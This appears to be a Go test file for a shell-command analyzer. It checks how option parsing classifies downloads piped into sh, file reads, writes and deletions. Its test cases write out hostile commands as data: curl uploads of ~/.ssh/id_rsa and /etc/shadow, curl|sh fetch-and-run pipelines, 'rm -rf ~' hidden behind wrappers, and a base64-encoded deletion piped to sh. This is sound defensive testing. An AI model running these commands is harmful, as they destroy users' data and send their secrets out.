package shellparse

import (
	"slices"
	"strings"
	"testing"
)

// TestOptionTables checks each program table against itself: a long
// option is a value option or a flag, never both, and the short options
// are listed once.
func TestOptionTables(t *testing.T) {
	specs := map[string]optSpec{}
	for _, w := range wrappers {
		specs["wrapper "+w.name] = w.v.opts
	}
	for name, spec := range map[string]optSpec{
		"curl": curlOpts, "wget": wgetOpts, "git": gitGlobalOpts, "tar": tarOpts, "rsync": rsyncOpts,
		"ssh": sshOpts, "scp": scpOpts, "sftp": sftpOpts, "xargs": xargsOpts, "su": suOpts, "runuser": runuserOpts,
		"flock": flockOpts, "watch": watchOpts, "script": scriptOpts, "env": envOpts,
	} {
		specs[name] = spec
	}
	for name, spec := range specs {
		for _, l := range spec.long {
			if slices.Contains(spec.flags, l) {
				t.Errorf("%s: %s is both a value option and a flag", name, l)
			}
			if !strings.HasPrefix(l, "--") {
				t.Errorf("%s: long option %q", name, l)
			}
		}
		for _, l := range spec.exact {
			if slices.Contains(spec.long, l) || slices.Contains(spec.flags, l) {
				t.Errorf("%s: %s is listed twice", name, l)
			}
		}
		for i := range len(spec.short) {
			if strings.Count(spec.short, spec.short[i:i+1]) > 1 {
				t.Errorf("%s: -%c listed twice", name, spec.short[i])
			}
		}
	}
}

// TestOptionDrift: each program's options are read with one table by
// every stage (paths, source classification, downloads). Each case broke
// when two tables disagreed: curl's -t, long options, -XPOST read as -X
// -P -O -S -T, -K, -w; wget's -e output_document, -O /dev/fd/1; git's
// --attr-source; tar's -I.
func TestOptionDrift(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		// A flag is not a value: the second URL goes to standard output.
		{"curl -o /tmp/a --insecure https://e/a https://e/x.sh | sh", []string{"curl -o /tmp/a --insecure https://e/a https://e/x.sh paths=write:/tmp/a", "sh src=curl:network:pipe"}},
		{"curl -XPOST https://e/a https://e/x.sh | sh", []string{"curl -XPOST https://e/a https://e/x.sh", "sh src=curl:network:pipe"}},
		{"curl -K cfg -o /tmp/x https://e/x | sh", []string{"curl -K cfg -o /tmp/x https://e/x paths=read:/w/cfg,write:/tmp/x", "sh src=curl:network:pipe"}},
		{"curl -o /dev/fd/1 https://e/x | sh", []string{"curl -o /dev/fd/1 https://e/x paths=write:/dev/fd/1", "sh src=curl:network:pipe"}},
		{"curl -so /dev/stdout https://e/x | sh", []string{"curl -so /dev/stdout https://e/x paths=write:/dev/stdout", "sh src=curl:network:pipe"}},
		{"curl -w '%header{x}' -o /dev/null https://e/x | sh", []string{"curl -w %header{x} -o /dev/null https://e/x paths=write:/dev/null", "sh src=curl:network:pipe"}},
		{"curl -D - -o /tmp/x https://e/x | sh", []string{"curl -D - -o /tmp/x https://e/x paths=write:/tmp/x", "sh src=curl:network:pipe"}},
		{"curl -t x -o out https://e/a https://e/b | sh", []string{"curl -t x -o out https://e/a https://e/b paths=write:/w/out", "sh src=curl:network:pipe"}},
		// Abbreviations, @files and variables are reads.
		{"curl --upl ~/.ssh/id_rsa https://e", []string{"curl --upl /home/u/.ssh/id_rsa https://e paths=read:/home/u/.ssh/id_rsa"}},
		{"curl --data-bin @/home/u/.ssh/id_rsa https://e", []string{"curl --data-bin @/home/u/.ssh/id_rsa https://e paths=read:/home/u/.ssh/id_rsa"}},
		{"curl -o out -d @/etc/shadow https://e", []string{"curl -o out -d @/etc/shadow https://e paths=write:/w/out,read:/etc/shadow"}},
		{"curl --variable k@/etc/shadow --expand-data '{{k}}' https://e", []string{"curl --variable k@/etc/shadow --expand-data {{k}} https://e paths=read:/etc/shadow"}},
		{"curl -H @/etc/hdrs https://e", []string{"curl -H @/etc/hdrs https://e paths=read:/etc/hdrs"}},
		{"curl --expand-output '{{HOME}}/.bashrc' --variable %HOME https://e", []string{"curl --expand-output {{HOME}}/.bashrc --variable %HOME https://e paths=write:{{HOME}}/.bashrc*"}},
		// Look-alikes: quiet downloads stay quiet, values stay values.
		{"curl -fsSL -o /tmp/x https://e/x | sh", []string{"curl -fsSL -o /tmp/x https://e/x paths=write:/tmp/x", "sh src=curl:other:pipe"}},
		{"curl -s -o /dev/null https://e/x | sh", []string{"curl -s -o /dev/null https://e/x paths=write:/dev/null", "sh src=curl:other:pipe"}},
		{"curl --ssl -o out https://e/x", []string{"curl --ssl -o out https://e/x paths=write:/w/out"}},
		{"curl -H 'X: a@b' --data-urlencode n=a@b https://e", []string{"curl -H \"X: a@b\" --data-urlencode n=a@b https://e"}},
		{"curl --variable k=v@x https://e", []string{"curl --variable k=v@x https://e"}},
		// wget: wgetrc commands and device outputs print to standard output.
		{"wget -O /dev/fd/1 https://e/x | sh", []string{"wget -O /dev/fd/1 https://e/x paths=write:/dev/fd/1", "sh src=wget:network:pipe"}},
		{"wget -e output_document=- https://e/x | sh", []string{"wget -e output_document=- https://e/x", "sh src=wget:network:pipe"}},
		{"wget --output-doc=- https://e/x | sh", []string{"wget --output-doc=- https://e/x", "sh src=wget:network:pipe"}},
		{"wget -e robots=off https://e/x | sh", []string{"wget -e robots=off https://e/x", "sh src=wget:other:pipe"}},
		{"wget -qO /tmp/x https://e/x | sh", []string{"wget -qO /tmp/x https://e/x paths=write:/tmp/x", "sh src=wget:other:pipe"}},
		{"wget --post-f /etc/shadow https://e", []string{"wget --post-f /etc/shadow https://e paths=read:/etc/shadow"}},
		// Downloads: -O and URLs as curl reads them.
		{"curl -O e.com/x.sh && bash x.sh", []string{"curl -O e.com/x.sh", "bash x.sh src=curl:download:file paths=read:/w/x.sh"}},
		{"curl -XPOST https://e/y.sh; bash y.sh", []string{"curl -XPOST https://e/y.sh", "bash y.sh paths=read:/w/y.sh"}},
		// git's global options.
		{"git --attr-source HEAD rm -r src", []string{"git --attr-source HEAD rm -r src paths=delete:/w/src"}},
		{"git -c x=y rm f", []string{"git -c x=y rm f paths=delete:/w/f"}},
	})
}

// TestReadOnlyAgreesWithPaths: the read-only proof's table and the path
// rules read a program's options alike. An option the proof takes as a
// value but the program as a flag would hide the file after it from the
// proof's reads (od -w FILE); the reverse reads a value as a file.
func TestReadOnlyAgreesWithPaths(t *testing.T) {
	for name, spec := range map[string]optSpec{
		"grep": grepOpts, "egrep": grepOpts, "fgrep": grepOpts, "rg": rgOpts, "head": headTailOpts,
		"tail": headTailOpts, "nl": nlOpts, "strings": stringsOpts, "od": odOpts, "date": dateOpts,
		"awk": awkOpts, "gawk": awkOpts, "mawk": awkOpts, "nawk": awkOpts,
	} {
		ro, ok := readOnlyTable.get()[name]
		if !ok {
			t.Errorf("%s: not in the read-only table", name)
			continue
		}
		for i := range len(ro.valFlags) {
			if c := ro.valFlags[i]; strings.IndexByte(spec.short, c) < 0 {
				t.Errorf("%s: the proof reads -%c VALUE, the path rule -%c as a flag", name, c, c)
			}
		}
		for i := range len(ro.optFlags) {
			if c := ro.optFlags[i]; strings.IndexByte(spec.optional, c) < 0 {
				t.Errorf("%s: the proof reads -%cVALUE, the path rule does not", name, c)
			}
		}
		for i := range len(ro.flags) {
			if c := ro.flags[i]; strings.IndexByte(spec.short, c) >= 0 {
				t.Errorf("%s: the proof reads -%c as a flag, the path rule -%c VALUE", name, c, c)
			}
		}
		for l, n := range ro.long {
			if valued := spec.takesValue("--" + l); (n > 0) != valued {
				t.Errorf("%s: --%s: the proof takes %d values, the path rule %v", name, l, n, valued)
			}
		}
	}
}

// TestReadOnlyDrift: rows where the proof and the path rules read a
// program's options differently before they shared a table.
func TestReadOnlyDrift(t *testing.T) {
	for s, want := range map[string][]string{
		"od -w /home/u/notes":   {"/home/u/notes"}, // -w takes no next word
		"od -w16 -c a":          {"/ws/a"},
		"od --width /etc/x":     {"/etc/x"},
		"date -I":               nil,
		"date -Iseconds":        nil,
		"rg -d 1 foo /home/u/x": {"/home/u/x"},
	} {
		r := ProveReadOnly(s, Options{Cwd: "/ws", Home: "/home/u"})
		if !r.OK {
			t.Errorf("%q: not proven: %s", s, r.Why)
			continue
		}
		for _, w := range want {
			if !slices.Contains(r.Reads, w) {
				t.Errorf("%q: reads %q, want %q among them", s, r.Reads, w)
			}
		}
	}
	t.Run("paths", func(t *testing.T) {
		runCases(t, []analyzeCase{
			{"rg -d 1 foo dir", []string{"rg -d 1 foo dir paths=read:/w/dir"}},
			{"rg --sort path foo dir", []string{"rg --sort path foo dir paths=read:/w/dir"}},
			{"nl --number-width 3 f", []string{"nl --number-width 3 f paths=read:/w/f"}},
			{"od -w f", []string{"od -w f paths=read:/w/f"}},
			{"date --rfc-3339 seconds", []string{"date --rfc-3339 seconds"}},
		})
	})
}

// TestReadOnlyAgreesWithReaders: the same check for the readers
// (readers.go) the proof also knows.
func TestReadOnlyAgreesWithReaders(t *testing.T) {
	for _, r := range readerTable {
		ro, ok := readOnlyTable.get()[r.name]
		if !ok || ro.check != nil {
			continue
		}
		spec := r.v.opts
		for i := range len(ro.valFlags) {
			if c := ro.valFlags[i]; strings.IndexByte(spec.short, c) < 0 {
				t.Errorf("%s: the proof reads -%c VALUE, the reader -%c as a flag", r.name, c, c)
			}
		}
		for i := range len(ro.flags) {
			if c := ro.flags[i]; strings.IndexByte(spec.short, c) >= 0 {
				t.Errorf("%s: the proof reads -%c as a flag, the reader -%c VALUE", r.name, c, c)
			}
		}
		for l, n := range ro.long {
			if valued := spec.takesValue("--" + l); (n > 0) != valued {
				t.Errorf("%s: --%s: the proof takes %d values, the reader %v", r.name, l, n, valued)
			}
		}
	}
}

// TestReaderOptions: reader options as the programs read them. Each read
// was missed when a flag or an optional value was taken for a value that
// swallows the next word: column -t, zip -X, pr -s/-e, diff --color,
// split --numeric-suffixes.
func TestReaderOptions(t *testing.T) {
	t.Parallel()
	k := "/home/u/.ssh/id_rsa"
	runCases(t, []analyzeCase{
		{"column -t ~/.aws/credentials", []string{"column -t /home/u/.aws/credentials", "cat -- /home/u/.aws/credentials <- column reads paths=read:/home/u/.aws/credentials"}},
		{"column -t -s , f", []string{"column -t -s , f", "cat -- f <- column reads paths=read:/w/f"}},
		{"zip -X out.zip " + k, []string{"zip -X out.zip " + k + " paths=write:/w/out.zip", "cat -- " + k + " <- zip reads paths=read:" + k}},
		{"pr -s " + k, []string{"pr -s " + k, "cat -- " + k + " <- pr reads paths=read:" + k}},
		{"pr -e8 -h title " + k, []string{"pr -e8 -h title " + k, "cat -- " + k + " <- pr reads paths=read:" + k}},
		{"diff --color " + k + " /dev/null", []string{"diff --color " + k + " /dev/null", "cat -- " + k + " /dev/null <- diff reads paths=read:" + k + ",read:/dev/null"}},
		{"split --numeric-suffixes " + k + " out", []string{"split --numeric-suffixes " + k + " out paths=write:/w", "cat -- " + k + " <- split reads paths=read:" + k}},
		{"ack -C foo " + k, []string{"ack -C foo " + k, "cat -- " + k + " <- ack reads paths=read:" + k}},
		{"split --filter='sh -c \"rm -rf ~\"' f", []string{"split \"--filter=sh -c \\\"rm -rf ~\\\"\" f", "cat -- f <- split reads paths=read:/w/f", "sh -c \"rm -rf ~\" <- split --filter", "rm -rf /home/u <- split --filter/sh -c paths=delete:/home/u"}},
	})
}

// TestDecoderPrefixes: a decoder's long option may be abbreviated.
func TestDecoderPrefixes(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"echo cm0gLXJmIH4K | base64 --dec | sh", []string{"echo cm0gLXJmIH4K", "base64 --dec src=echo:other:pipe", "sh src=echo:other:pipe,base64:decoder:pipe", "rm -rf /home/u <- sh src=echo:other:pipe,base64:decoder:pipe paths=delete:/home/u"}},
		{"cat x | gzip --decomp | sh", []string{"cat x paths=read:/w/x", "gzip --decomp src=cat:other:pipe", "sh src=cat:other:pipe,gzip:decoder:pipe"}},
		{"gpg --decr x.gpg | sh", []string{"gpg --decr x.gpg", "sh src=gpg:decoder:pipe"}},
		// Look-alikes: other long options are not the decoder's.
		{"cat x | base64 --wrap=0 | sh", []string{"cat x paths=read:/w/x", "base64 --wrap=0 src=cat:other:pipe", "sh src=cat:other:pipe,base64:other:pipe"}},
		{"cat x | gzip --best | sh", []string{"cat x paths=read:/w/x", "gzip --best src=cat:other:pipe", "sh src=cat:other:pipe,gzip:other:pipe"}},
	})
}

// TestWrapperPrefixes: the GNU and util-linux wrappers take a unique
// prefix of a long option; its value is not the command.
func TestWrapperPrefixes(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"timeout --sig KILL 5 rm -rf ~", []string{"timeout --sig KILL 5 rm -rf /home/u", "rm -rf /home/u <- timeout paths=delete:/home/u"}},
		{"nice --adj 5 rm -rf ~", []string{"nice --adj 5 rm -rf /home/u", "rm -rf /home/u <- nice paths=delete:/home/u"}},
		{"stdbuf --out 0 rm -rf ~", []string{"stdbuf --out 0 rm -rf /home/u", "rm -rf /home/u <- stdbuf paths=delete:/home/u"}},
		{"sudo --us root rm -rf ~", []string{"sudo --us root rm -rf /home/u", "rm -rf /home/u <- sudo paths=delete:/home/u"}},
		{"setpriv --reuid 1000 rm -rf ~", []string{"setpriv --reuid 1000 rm -rf /home/u", "rm -rf /home/u <- setpriv paths=delete:/home/u"}},
		{"prlimit -o RES rm -rf ~", []string{"prlimit -o RES rm -rf /home/u", "rm -rf /home/u <- prlimit paths=delete:/home/u"}},
		{"env --ch /etc rm -rf x", []string{"env --ch /etc rm -rf x", "rm -rf x <- env paths=delete:/etc/x"}},
		{"xargs --arg-f list rm -rf", []string{"xargs --arg-f list rm -rf paths=read:/w/list", "rm -rf \"{xargs input}\" <- xargs paths=delete:{xargs input}*"}},
		{"su --comm 'rm -rf ~'", []string{"su --comm \"rm -rf ~\"", "rm -rf /home/u <- su paths=delete:/home/u"}},
		{"script --comm 'rm -rf ~'", []string{"script --comm \"rm -rf ~\"", "rm -rf /home/u <- script paths=delete:/home/u"}},
		{"watch --int 1 rm -rf ~", []string{"watch --int 1 rm -rf /home/u", "rm -rf /home/u <- watch paths=delete:/home/u"}},
		{"flock /tmp/l --comm 'rm -rf ~'", []string{"flock /tmp/l --comm \"rm -rf ~\"", "rm -rf /home/u <- flock paths=delete:/home/u"}},
		// Flags stay flags, in full or abbreviated; =VALUE-only options too.
		{"timeout --pres 5 rm -rf ~", []string{"timeout --pres 5 rm -rf /home/u", "rm -rf /home/u <- timeout paths=delete:/home/u"}},
		{"timeout --foreground 5 make", []string{"timeout --foreground 5 make", "make <- timeout"}},
		{"sudo --preserve-env make", []string{"sudo --preserve-env make", "make <- sudo"}},
		{"xargs --max-lines rm -rf", []string{"xargs --max-lines rm -rf", "rm -rf \"{xargs input}\" <- xargs paths=delete:{xargs input}*"}},
	})
}

// TestPathPrefixes: the GNU programs' long options abbreviated, as
// getopt_long reads them, in the path rules.
func TestPathPrefixes(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"cp --t /etc/cron.d x", []string{"cp --t /etc/cron.d x paths=write:/etc/cron.d,write:/etc/cron.d/x,read:/w/x"}},
		{"mv --targ /etc x", []string{"mv --targ /etc x paths=write:/etc,write:/etc/x,delete:/w/x"}},
		{"ln -s --target /etc/cron.d x", []string{"ln -s --target /etc/cron.d x paths=write:/etc/cron.d,write:/etc/cron.d/x,read:/w/x,read:/etc/cron.d/x"}},
		{"install --targ /usr/bin x", []string{"install --targ /usr/bin x paths=write:/usr/bin,write:/usr/bin/x,read:/w/x"}},
		{"sort --outp ~/.bashrc f", []string{"sort --outp /home/u/.bashrc f paths=write:/home/u/.bashrc,read:/w/f"}},
		{"sed --in-pl s/a/b/ ~/.bashrc", []string{"sed --in-pl s/a/b/ /home/u/.bashrc paths=write:/home/u/.bashrc"}},
		{"sed --fi ~/.x f", []string{"sed --fi /home/u/.x f paths=read:/home/u/.x,read:/w/f"}},
		{"tar --cre --file /tmp/x.tar ~/.ssh", []string{"tar --cre --file /tmp/x.tar /home/u/.ssh paths=read:/home/u/.ssh,write:/tmp/x.tar"}},
		{"wc --files0 ~/.ssh/id_rsa", []string{"wc --files0 /home/u/.ssh/id_rsa paths=read:/home/u/.ssh/id_rsa"}},
		{"cp --no-cl a b", []string{"cp --no-cl a b paths=create:/w/b,create:/w/b/a,read:/w/a"}},
		// =VALUE-only options do not take the next word.
		{"mkdir --context d", []string{"mkdir --context d paths=write:/w/d"}},
		{"od --strings ~/.ssh/id_rsa", []string{"od --strings /home/u/.ssh/id_rsa paths=read:/home/u/.ssh/id_rsa"}},
		{"cp --preserve a b", []string{"cp --preserve a b paths=write:/w/b,write:/w/b/a,read:/w/a"}},
		// A prefix of two options is refused by the program: left as written.
		{"grep --fil x f", []string{"grep --fil x f paths=read:/w/f"}},
	})
}

// TestWrapperDoubt: a wrapper whose table lists no flags cannot tell an
// unknown long option from a value option it left out or abbreviated
// (parallel's Getopt::Long and strace's getopt_long take prefixes): both
// readings are analyzed.
func TestWrapperDoubt(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"parallel --jo 4 rm -rf ::: ~", []string{"parallel --jo 4 rm -rf ::: /home/u", "4 rm -rf /home/u <- parallel", "rm -rf /home/u <- parallel paths=delete:/home/u"}},
		{"strace --out x rm -rf ~", []string{"strace --out x rm -rf /home/u", "x rm -rf /home/u <- strace", "rm -rf /home/u <- strace paths=delete:/home/u"}},
		{"torsocks --us x rm -rf ~", []string{"torsocks --us x rm -rf /home/u", "x rm -rf /home/u <- torsocks", "rm -rf /home/u <- torsocks paths=delete:/home/u"}},
		// Known options leave no doubt: one reading.
		{"strace -o x rm -rf ~", []string{"strace -o x rm -rf /home/u", "rm -rf /home/u <- strace paths=delete:/home/u"}},
		{"parallel -j 4 rm -rf ::: ~", []string{"parallel -j 4 rm -rf ::: /home/u", "rm -rf /home/u <- parallel paths=delete:/home/u"}},
		{"timeout --foreground 5 rm -rf ~", []string{"timeout --foreground 5 rm -rf /home/u", "rm -rf /home/u <- timeout paths=delete:/home/u"}},
	})
}

// TestGitDiffReads: git diff prints files outside the working tree (it
// switches to --no-index by itself), and its =VALUE-only options do not
// take the next word.
func TestGitDiffReads(t *testing.T) {
	t.Parallel()
	k := "/home/u/.ssh/id_rsa"
	runCases(t, []analyzeCase{
		{"git diff ~/.ssh/id_rsa /dev/null", []string{"git diff " + k + " /dev/null paths=read:" + k + ",read:/dev/null"}},
		{"git diff --no-index --color " + k + " /dev/null", []string{"git diff --no-index --color " + k + " /dev/null paths=read:" + k + ",read:/dev/null"}},
		{"git diff --no-index --word-diff -U 5 a b", []string{"git diff --no-index --word-diff -U 5 a b paths=read:/w/5,read:/w/a,read:/w/b"}},
		{"git diff ../other/x y", []string{"git diff ../other/x y paths=read:/other/x"}},
		{"git diff --output /tmp/p HEAD", []string{"git diff --output /tmp/p HEAD paths=write:/tmp/p"}},
		// Look-alikes: revisions and paths inside the tree.
		{"git diff HEAD~1 -- src", []string{"git diff HEAD~1 -- src"}},
		{"git diff main..feature", []string{"git diff main..feature"}},
	})
}

// TestGitSubcommandPrefixes: git's parse-options takes a unique prefix of
// a subcommand's long option.
func TestGitSubcommandPrefixes(t *testing.T) {
	t.Parallel()
	runCases(t, []analyzeCase{
		{"git stash --incl", []string{"git stash --incl paths=write:/w"}},
		{"git clean --forc -d", []string{"git clean --forc -d paths=write:/w"}},
		{"git reset --har", []string{"git reset --har paths=write:/w"}},
		{"git add --forc .env", []string{"git add --forc .env paths=read:/w/.env"}},
		{"git rm --cach x", []string{"git rm --cach x"}},
		// Look-alikes.
		{"git stash --keep", []string{"git stash --keep"}},
		{"git clean --dry -f", []string{"git clean --dry -f"}},
		{"git reset --soft HEAD~1", []string{"git reset --soft HEAD~1"}},
		{"git rm --quiet x", []string{"git rm --quiet x paths=delete:/w/x"}},
	})
}

// TestWrapperDoubtBounded: past maxAltReadings second readings, the
// next is Dynamic, not dropped.
func TestWrapperDoubtBounded(t *testing.T) {
	src := strings.Repeat("strace --a x rm -rf ~; ", maxAltReadings+1)
	r, err := Analyze(src, testOpts)
	if err != nil {
		t.Fatal(err)
	}
	rm, dyn := 0, 0
	for _, c := range r.Commands {
		if c.Name == "rm" {
			rm++
		}
		if c.Dynamic {
			dyn++
		}
	}
	if rm != maxAltReadings || dyn != 1 {
		t.Errorf("%d rm, %d dynamic; want %d rm and 1 dynamic", rm, dyn, maxAltReadings)
	}
}
